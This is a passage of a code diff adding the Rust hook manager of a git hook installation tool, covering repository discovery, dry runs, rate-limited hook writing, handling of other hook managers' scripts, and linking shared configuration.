+    shared_config: Option<PathBuf>,
+    /// Files given with `run --files`, checked instead of the staged files
+    files: Option<Vec<PathBuf>>,
+    /// Stash unstaged changes while a hook runs, as with `run --stash-unstaged`
+    stash_unstaged: bool,
+    /// Dotenv files given with `run --env-file`, in order
+    env_files: Vec<PathBuf>,
+    /// Let the env files replace variables already set, as with
+    /// `run --env-file-override`
+    env_file_override: bool,
+    /// Have `add` skip repositories without a configuration of their own
+    only_configured: bool,
+    /// What `add` does with hook scripts other hook managers installed
+    foreign_hooks: ForeignHooks,
+    /// Whether `add` writes files or only prints what it would write
+    execution_mode: ExecutionMode,
+    /// Have `add` run each installed hook with `--dry-run` to check it works
+    verify_installs: bool,
+    /// Script `add` runs after installing hooks to each repository
+    post_install_hook: Option<PathBuf>,
+    /// File `add` appends a Markdown table of its results to, the GitHub
+    /// Actions step summary
+    step_summary: Option<PathBuf>,
+    /// Registry `add` records the repositories it installed to in
+    registry: Option<Registry>,
+    /// Tags `add` records with each repository in the registry
+    registry_tags: Tags,
+    /// How long `add` waits for another process writing the same repository's hooks
+    lock_timeout: Duration,
+    /// Have `add` skip repositories on the ignore list or with an ignore marker
+    honor_ignores: bool,
+    /// Most repositories `add` installs to without asking for confirmation
+    confirm_threshold: Option<usize>,
+    /// Filesystems the search for repositories descends into
+    filesystems: Filesystems,
+    /// Whether the search for repositories descends into submodules
+    submodules: Submodules,
+    /// Print debug output, such as directories the search leaves out
+    verbose: bool,
+}
+
+impl Default for HookManager {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl HookManager {
+    /// Create a new hook manager
+    pub fn new() -> Self {
+        Self {
+            commit_processor: CommitMessageProcessor::new(),
+            output_format: None,
+            output_buffering: OutputBuffering::default(),
+            timeout_signal: Signal::default(),
+            config_path: None,
+            rate_limit: f64::MAX,
+            strict: false,
+            stdin_file: None,
+            shared_config: None,
+            files: None,
+            stash_unstaged: false,
+            env_files: Vec::new(),
+            env_file_override: false,
+            only_configured: false,
+            foreign_hooks: ForeignHooks::default(),
+            execution_mode: ExecutionMode::default(),
+            verify_installs: false,
+            post_install_hook: None,
+            step_summary: None,
+            registry: None,
+            registry_tags: Tags::new(),
+            lock_timeout: DEFAULT_LOCK_TIMEOUT,
+            honor_ignores: true,
+            confirm_threshold: None,
+            filesystems: Filesystems::default(),
+            submodules: Submodules::default(),
+            verbose: false,
+        }
+    }
+
+    /// Fail `run_hook` when there is no configuration or the hook has no
+    /// command, for repositories where hooks are mandatory
+    pub fn with_strict(mut self, strict: bool) -> Self {
+        self.strict = strict;
+        self
+    }
+
+    /// Write at most `ops_per_second` hook files per second when adding hooks
+    pub fn with_rate_limit(mut self, ops_per_second: f64) -> Self {
+        self.rate_limit = ops_per_second;
+        self
+    }
+
+    /// Have `add` wait up to `timeout` for another process installing hooks
+    /// to the same repository to finish, instead of the default 30 seconds
+    pub fn with_lock_timeout(mut self, timeout: Duration) -> Self {
+        self.lock_timeout = timeout;
+        self
+    }
+
+    /// Set whether `add` skips repositories on the user's ignore list or
+    /// with a `.hookmaster-ignore` file, which it does by default
+    pub fn with_ignores(mut self, honor_ignores: bool) -> Self {
+        self.honor_ignores = honor_ignores;
+        self
+    }
+
+    /// Have `add` ask for confirmation on the terminal before installing to
+    /// more than `threshold` repositories, and fail without a terminal. By
+    /// default it never asks.
+    pub fn with_confirm_threshold(mut self, threshold: Option<usize>) -> Self {
+        self.confirm_threshold = threshold;
+        self
+    }
+
+    /// Set which filesystems `add`, `uninstall`, `verify` and `audit`
+    /// search for repositories on. By default they stay on the filesystem of
+    /// the path they are given.
+    pub fn with_filesystems(mut self, filesystems: Filesystems) -> Self {
+        self.filesystems = filesystems;
+        self
+    }
+
+    /// Set whether `add`, `uninstall`, `verify` and `audit` search the
+    /// submodules of the repository they are given. By default they leave
+    /// them out.
+    pub fn with_submodules(mut self, submodules: Submodules) -> Self {
+        self.submodules = submodules;
+        self
+    }
+
+    /// Print debug output on stderr, such as the directories the search for
+    /// repositories leaves out for being on another filesystem
+    pub fn with_verbose(mut self, verbose: bool) -> Self {
+        self.verbose = verbose;
+        self
+    }
+
+    /// Find the git repositories under `path` on the chosen filesystems
+    fn find_repositories(&self, path: &Path) -> Result<Vec<PathBuf>> {
+        self.find_repositories_reporting(path, &mut |_, _| {})
+    }
+
+    /// Find the repositories under `path` like `find_repositories`, calling
+    /// `searching` with each directory read and the repositories found so far
+    fn find_repositories_reporting(
+        &self,
+        path: &Path,
+        searching: &mut OnSearching<'_>,
+    ) -> Result<Vec<PathBuf>> {
+        find_git_repositories_in(
+            path,
+            self.filesystems,
+            self.submodules,
+            &mut |event| match event {
+                SearchEvent::Searching { dir, found } => searching(dir, found),
+                SearchEvent::OtherFilesystem(dir) => {
+                    if self.verbose {
+                        eprintln!("Not searching {}: on another filesystem", dir.display());
+                    }
+                }
+                SearchEvent::Submodule(dir) => {
+                    if self.verbose {
+                        eprintln!("Not searching {}: a submodule", dir.display());
+                    }
+                }
+            },
+        )
+    }
+
+    /// Give hook commands the content of `path` as stdin, e.g. the ref
+    /// updates a `pre-receive` hook reads
+    pub fn with_stdin_file(mut self, path: Option<PathBuf>) -> Self {
+        self.stdin_file = path;
+        self
+    }
+
+    /// Check `files` instead of the staged files, for running a hook on
+    /// files that aren't staged such as the one being saved in an editor.
+    /// Relative paths are resolved against the repository root.
+    pub fn with_files(mut self, files: Option<Vec<PathBuf>>) -> Self {
+        self.files = files;
+        self
+    }
+
+    /// Stash unstaged changes while running a hook, so that it checks the
+    /// files as they will be committed. `pre-commit-stash-unstaged` in
+    /// `[settings]` does this for `pre-commit` only.
+    pub fn with_stash_unstaged(mut self, stash_unstaged: bool) -> Self {
+        self.stash_unstaged = stash_unstaged;
+        self
+    }
+
+    /// Give hook commands the variables of the dotenv files at `paths`,
+    /// loaded in order so a later file wins. Variables already set in the
+    /// environment are kept unless `override_set` is true.
+    pub fn with_env_files(mut self, paths: Vec<PathBuf>, override_set: bool) -> Self {
+        self.env_files = paths;
+        self.env_file_override = override_set;
+        self
+    }
+
+    /// The variables of the env files that hook commands get, in order
+    fn env_file_vars(&self) -> Result<EnvVars> {
+        let mut vars = Vec::new();
+        for path in &self.env_files {
+            for (name, value) in EnvFile::load(path)?.vars {
+                if self.env_file_override || std::env::var_os(&name).is_none() {
+                    vars.push((name, value));
+                }
+            }
+        }
+        Ok(vars)
+    }
+
+    /// Have `add` link each repository's hookmaster.toml to the shared
+    /// configuration file `path` instead of leaving the configuration as it is
+    pub fn with_shared_config(mut self, path: Option<PathBuf>) -> Self {
+        self.shared_config = path;
+        self
+    }
+
+    /// Have `add` install hooks only to repositories that have a
+    /// configuration of their own, and only the hooks it configures.
+    /// Repositories without one are reported as skipped.
+    pub fn with_only_configured(mut self, only_configured: bool) -> Self {
+        self.only_configured = only_configured;
+        self
+    }
+
+    /// Set what `add` does with hook scripts installed by Husky, the
+    /// pre-commit framework or lefthook; by default it refuses to replace them
+    pub fn with_foreign_hooks(mut self, foreign_hooks: ForeignHooks) -> Self {
+        self.foreign_hooks = foreign_hooks;
+        self
+    }
+
+    /// Have `add` go through discovery and installation as usual but, with
+    /// [`ExecutionMode::DryRun`], print the files it would write and skip
+    /// instead of touching them, ending with how many hooks it would install
+    pub fn with_execution_mode(mut self, mode: ExecutionMode) -> Self {
+        self.execution_mode = mode;
+        self
+    }
+
+    /// Have `add` run `hookmaster run <hook> --dry-run` in each repository
+    /// for every hook it installed, to check that the scripts find
+    /// hookmaster and the configuration loads. Server-side hooks are skipped.
+    pub fn with_verify_installs(mut self, verify_installs: bool) -> Self {
+        self.verify_installs = verify_installs;
+        self
+    }
+
+    /// Have `add` run `script` with the repository path and the names of the
+    /// installed hooks, separated by commas, after installing hooks to each
+    /// repository. A failing script is reported without stopping `add`.
+    pub fn with_post_install_hook(mut self, script: Option<PathBuf>) -> Self {
+        self.post_install_hook = script;
+        self
+    }
+
+    /// Have `add` append a table of the repositories and the hooks it
+    /// installed to them to `path`, such as the `GITHUB_STEP_SUMMARY` of a
+    /// GitHub Actions job. A summary that can't be written is reported
+    /// without failing `add`.
+    pub fn with_step_summary(mut self, path: Option<PathBuf>) -> Self {
+        self.step_summary = path;
+        self
+    }
+
+    /// Have `add` record each repository it installs hooks to in `registry`,
+    /// tagged with `tags`
+    pub fn with_registry(mut self, registry: Registry, tags: Tags) -> Self {
+        self.registry = Some(registry);
+        self.registry_tags = tags;
+        self
+    }
+
+    /// Read the configuration from `path` instead of searching the current directory
+    pub fn with_config_path(mut self, path: Option<PathBuf>) -> Self {
+        self.config_path = path;
+        self
+    }
+
+    /// Load the configuration for the current directory
+    fn load_config(&self) -> Result<GitHooksConfig> {
+        GitHooksConfig::load(self.config_path.as_deref())
+            .with_context(|| "Failed to load configuration")
+    }
+
+    /// Print the output of hook commands in the given format. Without one,
+    /// hooks running several commands in parallel prefix each line with the
+    /// command name and other hooks pass the output through unchanged.
+    pub fn with_output_format(mut self, format: OutputFormat) -> Self {
+        self.output_format = Some(format);
+        self
+    }
+
+    /// Print the output of hook commands as `buffering` says, instead of
+    /// each line as soon as it is complete
+    pub fn with_output_buffering(mut self, buffering: OutputBuffering) -> Self {
+        self.output_buffering = buffering;
+        self
+    }
+
+    /// Send `signal` instead of `SIGTERM` to commands that run past their
+    /// timeout, such as `SIGINT` for test runners that write a partial
+    /// report on it
+    pub fn with_timeout_signal(mut self, signal: Signal) -> Self {
+        self.timeout_signal = signal;
+        self
+    }
+
+    /// Add hookmaster hooks to all repositories under the given path,
+    /// reporting progress for each repository to `reporter`
+    pub fn add_hooks_to_path(&self, path: &Path, reporter: &mut dyn Reporter) -> Result<()> {
+        self.add_hooks(&[path.to_path_buf()], None, None, reporter)
+    }
+
+    /// Add hookmaster hooks to all repositories under each of `paths`, with
+    /// one summary for all of them. Repeated paths and repositories are
+    /// handled once; paths that aren't directories are reported and skipped.
+    pub fn add_hooks_to_paths(&self, paths: &[PathBuf], reporter: &mut dyn Reporter) -> Result<()> {
+        self.add_hooks(paths, None, None, reporter)
+    }
+
+    /// Add hookmaster hooks to all repositories under `paths` and write
+    /// `config` to each repository's hookmaster.toml, for setting up many
+    /// repositories from one canonical configuration. Hooks `config` defines
+    /// beyond the standard ones are installed too.
+    pub fn add_hooks_with_config(
+        &self,
+        paths: &[PathBuf],
+        config: &GitHooksConfig,
+        reporter: &mut dyn Reporter,
+    ) -> Result<()> {
+        self.add_hooks(paths, Some(config), None, reporter)
+    }
+
+    /// Like [`add_hooks_with_config`](Self::add_hooks_with_config) without a
+    /// configuration when `config` is `None`, but only to the discovered
+    /// repositories `selector` chooses
+    pub fn add_hooks_selecting(
+        &self,
+        paths: &[PathBuf],
+        config: Option<&GitHooksConfig>,
+        selector: &mut dyn RepoSelector,
+        reporter: &mut dyn Reporter,
+    ) -> Result<()> {
+        self.add_hooks(paths, config, Some(selector), reporter)
+    }
+
+    /// Add hookmaster hooks to each of `repos`, without searching for
+    /// repositories under them, such as a list of affected repositories
+    /// another tool wrote. Paths that don't exist or aren't git repositories
+    /// are reported as errors without stopping the others.
+    pub fn add_hooks_to_repos(&self, repos: &[PathBuf], reporter: &mut dyn Reporter) -> Result<()> {
+        self.check_shared_config()?;
+
+        let mut seen_repos = HashSet::new();
+        let mut repositories = Vec::new();
+        let mut results = Vec::new();
+        for repo in repos {
+            let problem = if !repo.exists() {
+                Some("does not exist")
+            } else if !git_hooks::is_git_repository(repo) {
+                Some("not a git repository")
+            } else {
+                None
+            };
+            if let Some(problem) = problem {
+                let result = RepoResult {
+                    repo: repo.clone(),
+                    status: RepoStatus::Error,
+                    hooks: Vec::new(),
+                    error_message: Some(problem.to_string()),
+                    verification: HashMap::new(),
+                };
+                reporter.repo_finished(&result);
+                results.push(result);
+            } else if seen_repos.insert(fs::canonicalize(repo).unwrap_or_else(|_| repo.clone())) {
+                repositories.push(repo.clone());
+            }
+        }
+
+        self.install_to_repositories(repositories, results, None, None, reporter)
+    }
+
+    /// Append the `results` of `add` to the GitHub Actions step summary at
+    /// `path`, as a Markdown table under a heading
+    pub fn write_github_summary(results: &[RepoResult], path: &Path) -> Result<()> {
+        let summary = format!(
+            "### hookmaster add\n\n{}\n",
+            output::markdown_table(results)
+        );
+        fs::OpenOptions::new()
+            .create(true)
+            .append(true)
+            .open(path)
+            .and_then(|mut file| file.write_all(summary.as_bytes()))
+            .with_context(|| format!("Failed to write step summary: {}", path.display()))
+    }
+
+    /// Fail if the shared configuration `add` links to doesn't exist
+    fn check_shared_config(&self) -> Result<()> {
+        if let Some(shared_config) = &self.shared_config {
+            if !shared_config.is_file() {
+                return Err(anyhow::anyhow!(
+                    "Config file not found: {}",
+                    shared_config.display()
+                ));
+            }
+        }
+        Ok(())
+    }
+
+    fn add_hooks(
+        &self,
+        paths: &[PathBuf],
+        config: Option<&GitHooksConfig>,
+        selector: Option<&mut dyn RepoSelector>,
+        reporter: &mut dyn Reporter,
+    ) -> Result<()> {
+        self.check_shared_config()?;
+
+        // The same repository can be reached through several paths, such as
+        // a directory and one of its subdirectories
+        let mut seen_paths = HashSet::new();
+        let mut seen_repos = HashSet::new();
+        let mut repositories = Vec::new();
+        for path in paths {
+            if !path.is_dir() {
+                reporter.path_skipped(path, "not a directory");
+                continue;
+            }
+            if !seen_paths.insert(fs::canonicalize(path).unwrap_or_else(|_| path.clone())) {
+                continue;
+            }
+            let found = match self
+                .find_repositories_reporting(path, &mut |dir, found| reporter.searching(dir, found))
+            {
+                Ok(found) => found,
+                Err(e) => {
+                    reporter.path_skipped(path, &format!("{e:#}"));
+                    continue;
+                }
+            };
+            reporter.discovered(path, found.len());
+            for repo in found {
+                if seen_repos.insert(fs::canonicalize(&repo).unwrap_or_else(|_| repo.clone())) {
+                    repositories.push(repo);
+                }
+            }
+        }
+
+        self.install_to_repositories(repositories, Vec::new(), config, selector, reporter)
+    }
+
+    /// Install hooks to `repositories`, adding a result for each to
+    /// `results`, which may already hold those of paths found unusable
+    fn install_to_repositories(
+        &self,
+        mut repositories: Vec<PathBuf>,
+        mut results: Vec<RepoResult>,
+        config: Option<&GitHooksConfig>,
+        selector: Option<&mut dyn RepoSelector>,
+        reporter: &mut dyn Reporter,
+    ) -> Result<()> {
+        if repositories.is_empty() && results.is_empty() {
+            return Ok(());
+        }
+        if self.honor_ignores {
+            let ignore_list = IgnoreList::load()?;
+            repositories.retain(|repo| {
+                if !ignore_list.is_ignored(repo) {
+                    return true;
+                }
+                let result = RepoResult {
+                    repo: repo.clone(),
+                    status: RepoStatus::Skipped,
+                    hooks: Vec::new(),
+                    error_message: Some("ignored".to_string()),
+                    verification: HashMap::new(),
+                };
+                reporter.repo_finished(&result);
+                results.push(result);
+                false
+            });
+        }
+        let interactive = selector.is_some();
+        if let Some(selector) = selector.filter(|_| !repositories.is_empty()) {
+            repositories = select::select_repositories(repositories, selector)?;
+            if repositories.is_empty() {
+                eprintln!("No repositories selected");
+                return Ok(());
+            }
+        }
+        // Choosing repositories interactively already confirms the run, and
+        // a dry run needs no confirmation
+        let dry_run = self.execution_mode == ExecutionMode::DryRun;
+        if let (false, false, Some(threshold)) = (interactive, dry_run, self.confirm_threshold) {
+            select::confirm_on_terminal(&repositories, threshold)?;
+        }
+
+        let mut bucket = TokenBucket::new(self.rate_limit);
+        let total = repositories.len();
+        let mut skipped_hooks = 0;
+        for (index, repo) in repositories.into_iter().enumerate() {
+            if !dry_run {
+                reporter.install_progress(&repo, index + 1, total);
+            }
+            let own_config = if self.only_configured {
+                match GitHooksConfig::discover(&repo, None) {
+                    Ok(Some(own_config)) => Some(own_config),
+                    Ok(None) => {
+                        let result = RepoResult {
+                            repo,
+                            status: RepoStatus::Skipped,
+                            hooks: Vec::new(),
+                            error_message: Some("no config".to_string()),
+                            verification: HashMap::new(),
+                        };
+                        reporter.repo_finished(&result);
+                        results.push(result);
+                        continue;
+                    }
+                    Err(e) => {
+                        let result = RepoResult {
+                            repo,
+                            status: RepoStatus::Error,
+                            hooks: Vec::new(),
+                            error_message: Some(format!("{e:#}")),
+                            verification: HashMap::new(),
+                        };
+                        reporter.repo_finished(&result);
+                        results.push(result);
+                        continue;
+                    }
+                }
+            } else {
+                None
+            };
+
+            if !dry_run {
+                reporter.repo_started(&repo);
+            }
+            let mode = self.execution_mode;
+            let installed = match &own_config {
+                Some(own_config) => {
+                    self.install_configured_hooks(&repo, own_config, &mut bucket, mode)
+                }
+                None => self.install_hooks_to_repo(&repo, config, &mut bucket, mode),
+            };
+            let result = match installed {
+                Ok(HookInstall { hooks, skipped }) => {
+                    skipped_hooks += skipped.len();
+                    let verification = if self.verify_installs && !dry_run {
+                        verify_hooks(&repo, &hooks, reporter)
+                    } else {
+                        HashMap::new()
+                    };
+                    if let (Some(script), false) = (&self.post_install_hook, dry_run) {
+                        if let Err(e) = run_post_install_hook(script, &repo, &hooks) {
+                            reporter.post_install_hook_failed(&repo, &format!("{e:#}"));
+                        }
+                    }
+                    RepoResult {
+                        repo,
+                        status: RepoStatus::Installed,
+                        hooks,
+                        error_message: None,
+                        verification,
+                    }
+                }
+                Err(e) => RepoResult {
+                    repo,
+                    status: RepoStatus::Error,
+                    hooks: Vec::new(),
+                    error_message: Some(format!("{e:#}")),
+                    verification: HashMap::new(),
+                },
+            };
+            reporter.repo_finished(&result);
+            results.push(result);
+        }
+
+        if dry_run {
+            let repositories = results
+                .iter()
+                .filter(|r| r.status == RepoStatus::Installed && !r.hooks.is_empty())
+                .count();
+            let hooks: usize = results.iter().map(|r| r.hooks.len()).sum();
+            println!(
+                "[DRY-RUN] would install {hooks} hooks to {repositories} repositories, skip {skipped_hooks} existing"
+            );
+        } else {
+            reporter.finished(&results);
+        }
+        if let (Some(path), false) = (&self.step_summary, dry_run) {
+            if let Err(e) = Self::write_github_summary(&results, path) {
+                eprintln!("Warning: {e:#}");
+            }
+        }
+
+        if let (Some(registry), false) = (&self.registry, dry_run) {
+            let now = SystemTime::now();
+            let entries = results
+                .iter()
+                .filter(|r| r.status == RepoStatus::Installed)
+                .map(|r| RegistryEntry::new(&r.repo, &r.hooks, &self.registry_tags, now))
+                .collect();
+            registry.record(entries).with_context(|| {
+                format!(
+                    "Hooks were installed, but {} could not be updated",
+                    registry.path().display()
+                )
+            })?;
+        }
+
+        let failed = results
+            .iter()
+            .filter(|r| r.status == RepoStatus::Error)
+            .count();
+        if failed > 0 {
+            return Err(anyhow::anyhow!(
+                "Failed to install hooks to {} of {} repositories",
+                failed,
+                results.len()
+            ));
+        }
+        let unverified: usize = results.iter().map(|r| r.unverified_hooks().len()).sum();
+        if unverified > 0 {
+            return Err(anyhow::anyhow!(
+                "{unverified} installed hook(s) failed verification"
+            ));
+        }
+
+        Ok(())
+    }
+
+    /// Install hooks to a specific repository, returning the names of the installed hooks.
+    /// With a `config`, it is copied to the repository and the hooks it
+    /// defines are installed as well. Each file write takes a token from `bucket`.
+    /// With [`ExecutionMode::DryRun`] the files are only printed.
+    fn install_hooks_to_repo(
+        &self,
+        repo_path: &Path,
+        config: Option<&GitHooksConfig>,
+        bucket: &mut TokenBucket,
+        mode: ExecutionMode,
+    ) -> Result<HookInstall> {
+        let mut hooks = GitHook::standard_hooks();
+        if let Some(config) = config {
+            let mut configured: Vec<GitHook> = config
+                .hooks
+                .keys()
+                .filter(|name| git_hooks::GIT_HOOK_NAMES.contains(&name.as_str()))
+                .map(|name| GitHook::from_filename(name))
+                .filter(|hook| !hooks.contains(hook))
+                .collect();
+            configured.sort_by_key(GitHook::to_filename);
+            hooks.extend(configured);
+        }
+
+        let format = match config {
+            Some(config) => config.settings.script_format,
+            None => self.script_format(repo_path),
+        };
+        if mode == ExecutionMode::DryRun {
+            let planned = self.preview_hooks(repo_path, &hooks, format);
+            if let Some(shared_config) = &self.shared_config {
+                println!(
+                    "[DRY-RUN] would link {} to {}",
+                    ConfigSource::HookmasterToml.path(repo_path).display(),
+                    shared_config.display()
+                );
+            } else if let Some(config) = config {
+                copy_config(config, repo_path, mode)?;
+            }
+            return Ok(planned);
+        }
+
+        let _lock = InstallLock::acquire(repo_path, self.lock_timeout)?;
+        let installed = self.install_hooks(repo_path, hooks, format, bucket)?;
+
+        if let Some(shared_config) = &self.shared_config {
+            thread::sleep(bucket.acquire());
+            self.link_config(shared_config, repo_path)?;
+        } else if let Some(config) = config {
+            thread::sleep(bucket.acquire());
+            copy_config(config, repo_path, mode)?;
+        }
+
+        Ok(HookInstall {
+            hooks: installed,
+            skipped: Vec::new(),
+        })
+    }
+
+    /// Install the scripts for the git hooks the repository's own
+    /// `config` defines, and no others
+    fn install_configured_hooks(
+        &self,
+        repo_path: &Path,
+        config: &GitHooksConfig,
+        bucket: &mut TokenBucket,
+        mode: ExecutionMode,
+    ) -> Result<HookInstall> {
+        let mut names: Vec<&str> = config
+            .hooks
+            .keys()
+            .map(String::as_str)
+            .filter(|name| git_hooks::GIT_HOOK_NAMES.contains(name))
+            .collect();
+        names.sort();
+
+        let hooks: Vec<GitHook> = names.into_iter().map(GitHook::from_filename).collect();
+        let format = config.settings.script_format;
+        if mode == ExecutionMode::DryRun {
+            return Ok(self.preview_hooks(repo_path, &hooks, format));
+        }
+
+        let _lock = InstallLock::acquire(repo_path, self.lock_timeout)?;
+        Ok(HookInstall {
+            hooks: self.install_hooks(repo_path, hooks, format, bucket)?,
+            skipped: Vec::new(),
+        })
+    }
+
+    /// Print the files installing `hooks` to the repository would write: the
+    /// scripts, any scripts `--chain` keeps, and the manifest. When another
+    /// hook manager owns some of the scripts, which `add` refuses to replace,
+    /// those are printed as skipped and nothing is written to the repository.
+    fn preview_hooks(
+        &self,
+        repo_path: &Path,
+        hooks: &[GitHook],
+        format: ScriptFormat,
+    ) -> HookInstall {
+        let hooks_dir = repo_path.join(".git").join("hooks");
+        let owner_of = |hook_file: &Path| {
+            fs::read_to_string(hook_file)
+                .ok()
+                .map(|content| classify_hook_script(&content))
+        };
+        let mut planned = HookInstall::default();
+        if self.foreign_hooks == ForeignHooks::Refuse {
+            for hook in hooks {
+                let hook_file = hooks_dir.join(hook.to_filename());
+                if owner_of(&hook_file).is_some_and(|owner| owner.is_hook_manager()) {
+                    println!(
+                        "[DRY-RUN] would skip {} (not hookmaster-managed)",
+                        hook_file.display()
+                    );
+                    planned.skipped.push(hook.to_filename());
+                }
+            }
+            if !planned.skipped.is_empty() {
+                return planned;
+            }
+        }
+
+        let mut manifest = Manifest::new();
+        if let Some(previous) = Manifest::load_or_warn(repo_path) {
+            manifest.hooks = previous.hooks;
+        }
+        for hook in hooks {
+            let name = hook.to_filename();
+            let hook_file = hooks_dir.join(&name);
+            let owner = owner_of(&hook_file);
+            let chained_file = git_hooks::chained_file(&hook_file);
+            let moves_to_chained = self.foreign_hooks == ForeignHooks::Chain
+                && hook_file.is_file()
+                && !git_hooks::is_hookmaster_script(&hook_file);
+            if moves_to_chained {
+                let size = fs::metadata(&hook_file).map_or(0, |m| m.len());
+                println!(
+                    "[DRY-RUN] would write {} ({size} bytes)",
+                    chained_file.display()
+                );
+            }
+            let chained = moves_to_chained || chained_file.exists();
+            let content = if chained {
+                hook.chained_script_content(format)
+            } else {
+                hook.script_content(format)
+            };
+            println!(
+                "[DRY-RUN] would write {} ({} bytes)",
+                hook_file.display(),
+                content.len()
+            );
+            manifest.record(InstalledHook {
+                name: name.clone(),
+                hash: manifest::content_hash(&content),
+                previous: owner
+                    .filter(|owner| *owner != HookOwner::Hookmaster)
+                    .map(|owner| owner.name().to_string()),
+                chained,
+            });
+            planned.hooks.push(name);
+        }
+        if !planned.hooks.is_empty() {
+            println!(
+                "[DRY-RUN] would write {} ({} bytes)",
+                Manifest::path(repo_path).display(),
+                manifest.to_json().len()
+            );
+        }
+        planned
+    }
+
+    /// Write the scripts of `hooks` and record them in the repository's
+    /// manifest, returning their names
+    fn install_hooks(
+        &self,
+        repo_path: &Path,
+        hooks: Vec<GitHook>,
+        format: ScriptFormat,
+        bucket: &mut TokenBucket,
+    ) -> Result<Vec<String>> {
+        self.check_foreign_hooks(repo_path, &hooks)?;
+
+        // Hooks installed earlier, such as those of another configuration, stay listed
+        let mut manifest = Manifest::new();
+        if let Some(previous) = Manifest::load_or_warn(repo_path) {
+            manifest.hooks = previous.hooks;
+        }
+        let mut installed = Vec::new();
+        for hook in hooks {
+            thread::sleep(bucket.acquire());
+            manifest.record(self.install_hook(&hook, repo_path, format)?);
+            installed.push(hook.to_filename());
+        }
+        manifest.save(repo_path)?;
+        Ok(installed)
+    }
+
+    /// Fail if another hook manager owns any of `hooks` in the repository,
+    /// unless `add` was told what to do with their scripts
+    fn check_foreign_hooks(&self, repo_path: &Path, hooks: &[GitHook]) -> Result<()> {
+        if self.foreign_hooks != ForeignHooks::Refuse {
+            return Ok(());
+        }
+        let hooks_dir = repo_path.join(".git").join("hooks");
+        let owned: Vec<String> = hooks
+            .iter()
+            .filter_map(|hook| {
+                let content = fs::read_to_string(hooks_dir.join(hook.to_filename())).ok()?;
+                let owner = classify_hook_script(&content);
+                owner
+                    .is_hook_manager()
+                    .then(|| format!("{} by {}", hook.to_filename(), owner.name()))
+            })
+            .collect();
+        if owned.is_empty() {
+            return Ok(());
+        }
+        Err(anyhow::anyhow!(
+            "Not replacing hooks installed by another hook manager: {}; use --force to replace them or --chain to run them before hookmaster",
+            owned.join(", ")
+        ))
+    }
+
+    /// Write the script of `hook`, chaining the previous one if `add` was told to
+    fn install_hook(
+        &self,
+        hook: &GitHook,
+        repo_path: &Path,
+        format: ScriptFormat,
+    ) -> Result<InstalledHook> {
+        let hook_file = repo_path
+            .join(".git")
+            .join("hooks")
+            .join(hook.to_filename());
+        let previous = fs::read_to_string(&hook_file)
+            .ok()
+            .map(|content| classify_hook_script(&content))
+            .filter(|owner| *owner != HookOwner::Hookmaster);
+
+        let written = match self.foreign_hooks {
+            ForeignHooks::Chain => hook.chain_to_repo_as(repo_path, format),
+            ForeignHooks::Refuse | ForeignHooks::Replace => {
+                hook.install_to_repo_as(repo_path, format)
+            }
+        };
+        written.with_context(|| {
+            format!(
+                "Failed to install {} hook to {}",
+                hook.to_filename(),
+                repo_path.display()
+            )
+        })?;
+
+        let content = fs::read_to_string(&hook_file)
+            .with_context(|| format!("Failed to read hook file: {}", hook_file.display()))?;
+        Ok(InstalledHook {
+            name: hook.to_filename(),
+            hash: manifest::content_hash(&content),
+            previous: previous.map(|owner| owner.name().to_string()),
+            chained: git_hooks::chained_file(&hook_file).exists(),
+        })
+    }
+
+    /// Compare the hook scripts installed in `repo1` with those in `repo2`,
+    /// one [`HookDiff`] for each script either has, in name order. Sample
+    /// scripts are left out.
+    pub fn diff_installed_hooks(&self, repo1: &Path, repo2: &Path) -> Result<Vec<HookDiff>> {
+        for repo in [repo1, repo2] {
+            if !git_hooks::is_git_repository(repo) {
+                return Err(anyhow::anyhow!("Not a git repository: {}", repo.display()));
+            }
+        }
+        let (dir1, dir2) = (repo1.join(".git/hooks"), repo2.join(".git/hooks"));
+        let mut names = hook_script_names(&dir1);
+        names.extend(hook_script_names(&dir2));
+
+        Ok(names
+            .into_iter()
+            .map(|name| {
+                let (path1, path2) = (dir1.join(&name), dir2.join(&name));
+                let read = |path: &Path| {
+                    fs::read(path)
+                        .ok()
+                        .map(|content| String::from_utf8_lossy(&content).into_owned())
+                };
+                let (old, new) = (read(&path1), read(&path2));
+                let diff = (old != new).then(|| {
+                    let label = |path: &Path, exists: bool| {
+                        if exists {
+                            path.display().to_string()
+                        } else {
+                            "/dev/null".to_string()
+                        }
+                    };
+                    let mut lines = vec![
+                        format!("--- {}", label(&path1, old.is_some())),
+                        format!("+++ {}", label(&path2, new.is_some())),
+                    ];
+                    lines.extend(upgrade::diff(
+                        old.as_deref().unwrap_or_default(),
+                        new.as_deref().unwrap_or_default(),
+                    ));
+                    lines.join("\n") + "\n"
+                });
+                HookDiff {
+                    hook_name: name,
+                    diff,
+                }
+            })
+            .collect())
+    }
+
+    /// Print the differences between the hook scripts installed in `repo1`
+    /// and `repo2` as a unified diff, followed by a summary
+    pub fn print_hook_diffs(&self, repo1: &Path, repo2: &Path) -> Result<()> {
+        let diffs = self.diff_installed_hooks(repo1, repo2)?;
+        if diffs.is_empty() {
+            println!("No hook scripts in either repository");
+            return Ok(());
+        }
+        let differing = diffs.iter().filter_map(|d| d.diff.as_deref()).count();
+        for diff in diffs.iter().filter_map(|d| d.diff.as_deref()) {
+            print!("{diff}");
+        }
+        if differing == 0 {
+            println!("All {} hook scripts are the same", diffs.len());
+        } else {
+            println!("{differing} of {} hook scripts differ", diffs.len());
+        }
+        Ok(())
+    }
+
+    /// Format of the scripts for the repository at `repo`, from the
+    /// `script-format` setting of the shared configuration or else the
+    /// repository's own. Without a readable configuration scripts are for `sh`.
+    fn script_format(&self, repo: &Path) -> ScriptFormat {
+        let source = self.shared_config.clone().map(ConfigSource::File);
+        GitHooksConfig::discover(repo, source)
+            .ok()
+            .flatten()
+            .map(|config| config.settings.script_format)
+            .unwrap_or_default()
+    }
+
+    /// Make `target_config` the configuration of the repository at `repo`
+    /// with a symbolic link from its hookmaster.toml, so changes to the shared
+    /// file apply without reinstalling. Where symbolic links can't be created
+    /// (Windows without the permission), a `.hookmaster-config-link` file
+    /// naming the target is written instead.
+    pub fn link_config(&self, target_config: &Path, repo: &Path) -> Result<()> {
+        let target = fs::canonicalize(target_config)
+            .with_context(|| format!("Config file not found: {}", target_config.display()))?;
+
+        // An existing link, possibly to another shared file, is replaced
+        let link = ConfigSource::HookmasterToml.path(repo);
+        match fs::read_link(&link) {
+            Ok(existing) if existing == target => return Ok(()),
+            Ok(_) => fs::remove_file(&link)
+                .with_context(|| format!("Failed to remove {}", link.display()))?,
+            Err(_) => {}
+        }
